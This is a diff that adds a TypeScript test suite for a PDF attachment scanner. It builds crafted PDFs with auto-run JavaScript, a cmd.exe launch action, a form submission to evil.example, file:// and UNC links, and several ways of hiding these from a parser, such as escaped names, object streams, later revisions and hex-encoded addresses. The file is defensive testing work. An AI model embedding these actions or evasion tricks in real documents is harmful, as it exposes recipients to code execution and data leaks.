@@ -1,0 +1,156 @@
+import { PDFDocument } from '@cantoo/pdf-lib';
+import { examinePdf } from '../../server/attachments/read-pdf';
+import type { ActiveContent } from '../../src/core/contracts/attachment.contract';
+import {
+  appendUpdate,
+  craftPdf,
+  linearizedPdf,
+  objectStream,
+  onePage,
+  streamOf,
+  type CraftedObjects,
+} from '../support/crafted-pdf';
+import { samplePdf } from '../support/sample-pdf';
+
+// PDFs that do something when they are opened or clicked, in every place where a reader would find it (proofs S23).
+
+type PageEntries = NonNullable<Parameters<typeof onePage>[0]>;
+
+const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+const opened = { root: '/OpenAction 9 0 R' };
+const clicked = { leaf: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 9 0 R >>]' };
+const withObjects = (objects: CraftedObjects, entries: PageEntries = opened): CraftedObjects => ({
+  ...onePage(entries),
+  ...objects,
+});
+const action = (content: string, entries: PageEntries = clicked): Buffer =>
+  craftPdf(withObjects({ 9: content }, entries));
+const ofRoot = (root: string): Buffer => craftPdf(onePage({ root }));
+const annotated = (annotation: string): Buffer =>
+  craftPdf(onePage({ leaf: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>]` }));
+
+type Sample = readonly [what: string, make: () => Buffer | Promise<Buffer>, found: readonly ActiveContent[]];
+
+const kinds: readonly Sample[] = [
+  ['a script when it is opened', () => action(script, opened), ['javaScript']],
+  ['a script by its name', () => ofRoot(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`), ['javaScript']],
+  [
+    'a script of a field',
+    () => annotated(`/Subtype /Widget /FT /Tx /AA << /K ${script} >>`),
+    ['javaScript', 'automatic'],
+  ],
+  ['a program', () => action('<< /S /Launch /F (cmd.exe) >>'), ['launch']],
+  ['a form that is sent', () => action('<< /S /SubmitForm /F (https://evil.example) >>'), ['submitForm']],
+  ['data from a file', () => action('<< /S /ImportData /F (data.fdf) >>'), ['otherFiles']],
+  ['another file', () => action('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>'), ['otherFiles']],
+  ['a file in the file', () => action('<< /S /GoToE /D [0 /Fit] >>'), ['otherFiles']],
+  ['an attached file', () => ofRoot('/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>'), ['embeddedFiles']],
+  ['a file of an area', () => ofRoot('/AF [<< /Type /Filespec /EF << /F 9 0 R >> >>]'), ['embeddedFiles']],
+  ['a pinned file', () => annotated('/Subtype /FileAttachment'), ['embeddedFiles']],
+  ['an XFA form', () => ofRoot('/AcroForm << /Fields [] /XFA [(template) 9 0 R] >>'), ['xfa']],
+  ['a film', () => annotated('/Subtype /RichMedia'), ['media']],
+  ['a sound', () => action('<< /S /Sound /Sound 8 0 R >>'), ['media']],
+  ['a body', () => annotated('/Subtype /3D'), ['media']],
+  ['an address that opens by itself', () => action('<< /S /URI /URI (https://a.example) >>', opened), ['automatic']],
+  [
+    'what happens when a page is shown',
+    () => craftPdf(onePage({ leaf: '/AA << /O << /S /Named /N /Print >> >>' })),
+    ['automatic'],
+  ],
+  ['an address of a file', () => action('<< /S /URI /URI (file:///etc/passwd) >>'), ['oddLinks']],
+  ['an address of another computer', () => action('<< /S /URI /URI (\\\\\\\\evil\\\\share) >>'), ['oddLinks']],
+  ['an address that is a script', () => action('<< /S /URI /URI (java\\\nscript:alert\\(1\\)) >>'), ['oddLinks']],
+  [
+    'data of a stream in another file',
+    () => craftPdf({ ...onePage(), 9: streamOf('/F (data.bin)', '') }),
+    ['otherFiles'],
+  ],
+  ['several things', () => ofRoot(`/A ${script} /B << /S /Launch >>`), ['javaScript', 'launch']],
+];
+
+const hidingPlaces: readonly Sample[] = [
+  ['in a name with escapes', () => action('<< /#53 /J#61vaScr#69pt /JS (x) >>'), ['javaScript']],
+  ['behind a reference to its kind', () => craftPdf(withObjects({ 9: '<< /S 8 0 R >>', 8: '/Launch' })), ['launch']],
+  ['in a stream of objects', () => craftPdf({ ...onePage(opened), 8: objectStream({ 9: script }) }), ['javaScript']],
+  [
+    'in a stream of objects without a type',
+    () => craftPdf({ ...onePage(opened), 8: objectStream({ 9: script }, '') }),
+    ['javaScript'],
+  ],
+  [
+    'in a later revision',
+    () => appendUpdate(craftPdf(onePage()), onePage({ root: `/OpenAction ${script}` })),
+    ['javaScript'],
+  ],
+  ['in an earlier revision', () => appendUpdate(ofRoot(`/OpenAction ${script}`), onePage()), ['javaScript']],
+  ['under a key that stands twice', () => action('<< /S /Launch /S /GoTo >>'), ['launch']],
+  ['in a comment', () => craftPdf({ ...onePage(opened), 8: `1 % 9 0 obj ${script}` }), ['javaScript']],
+  [
+    "in another object's stream",
+    () => craftPdf({ ...onePage(opened), 8: streamOf('', `9 0 obj ${script} endobj`) }),
+    ['javaScript'],
+  ],
+  ['in a dictionary without an end', () => craftPdf(withObjects({ 9: '<< /A << /S /JavaScript' })), ['javaScript']],
+  ['in an address in hexadecimal digits', () => action('<< /S /URI /URI <66696C653A2F2F2F> >>'), ['oddLinks']],
+  ['in the chain of an action', () => action('<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Launch >>] >>'), ['launch']],
+  ['behind a lock against changes', lockedScript, ['javaScript']],
+];
+
+const sound: readonly (readonly [what: string, make: Sample[1]])[] = [
+  ['one page', () => craftPdf(onePage())],
+  ['its first page first', linearizedPdf],
+  ['a second revision', () => appendUpdate(craftPdf(onePage()), onePage({ root: '/Lang (fi)' }))],
+  ['a link to the web', () => action('<< /S /URI /URI (https://www.thl.fi/) >>')],
+  ['a link to a mailbox', () => action('<< /S /URI /URI (mailto:a@b.fi) >>')],
+  ['a link without https', () => action('<< /S /URI /URI (www.thl.fi) >>')],
+  ['a place at which it opens', () => craftPdf(onePage({ root: '/OpenAction [3 0 R /Fit]' }))],
+  ['an action to that place', () => action('<< /S /GoTo /D [3 0 R /Fit] >>', opened)],
+  ['outlines', () => ofRoot('/Outlines << /First 9 0 R /Last 9 0 R /Count 1 >>')],
+  ['form fields', () => ofRoot('/AcroForm << /Fields [<< /FT /Tx /T (nimi) /V (x) >>] >>')],
+  ['tags', () => ofRoot('/MarkInfo << /Marked true >> /StructTreeRoot << /Type /StructTreeRoot /K << /S /P >> >>')],
+  ['no XFA', () => ofRoot('/AcroForm << /Fields [] /XFA null >>')],
+  [
+    'fonts with the names of keys',
+    () => craftPdf(onePage({ leaf: '/Resources << /Font << /JS 9 0 R /EF 9 0 R /AA 9 0 R >> >>' })),
+  ],
+  ['a title that names a script', () => craftPdf({ ...onePage(), 9: '<< /Title (/S /JavaScript << /Launch) >>' })],
+  [
+    'an object of a stream',
+    () => craftPdf({ ...onePage(), 8: objectStream({ 9: '<< /Title (Ohje: a) >>', 10: '(Ohje: b)' }) }),
+  ],
+  ['a lock against changes', () => locked({ userPassword: '' })],
+];
+
+const examine = async (file: Buffer) => examinePdf('dk', async () => file);
+
+test.each(kinds)('%s is found', async (_what, make, found) => {
+  expect(await examine(await make())).toEqual({ active: found });
+});
+
+test.each(hidingPlaces)('%s it is found', async (_what, make, found) => {
+  expect(await examine(await make())).toEqual({ active: found });
+});
+
+test.each(sound)('%s is sound', async (_what, make) => {
+  expect(await examine(await make())).toEqual({ active: [] });
+});
+
+test('a file that asks for a password is called so, and a stream of objects that cannot be looked into is refused', async () => {
+  expect(await examine(await locked({ userPassword: 'salasana' }))).toBe('locked');
+  const odd = objectStream({ 9: script }).replace('/FlateDecode', '/LZWDecode');
+  expect(await examine(craftPdf({ ...onePage(), 8: odd }))).toBe('notPdf');
+});
+
+async function locked(
+  passwords: { readonly userPassword: string },
+  change?: (document: PDFDocument) => void,
+): Promise<Buffer> {
+  const document = await PDFDocument.load(await samplePdf());
+  change?.(document);
+  document.encrypt({ ...passwords, ownerPassword: 'omistaja' });
+  return Buffer.from(await document.save());
+}
+
+function lockedScript(): Promise<Buffer> {
+  return locked({ userPassword: '' }, (document) => document.addJavaScript('main', 'app.alert(1)'));
+}
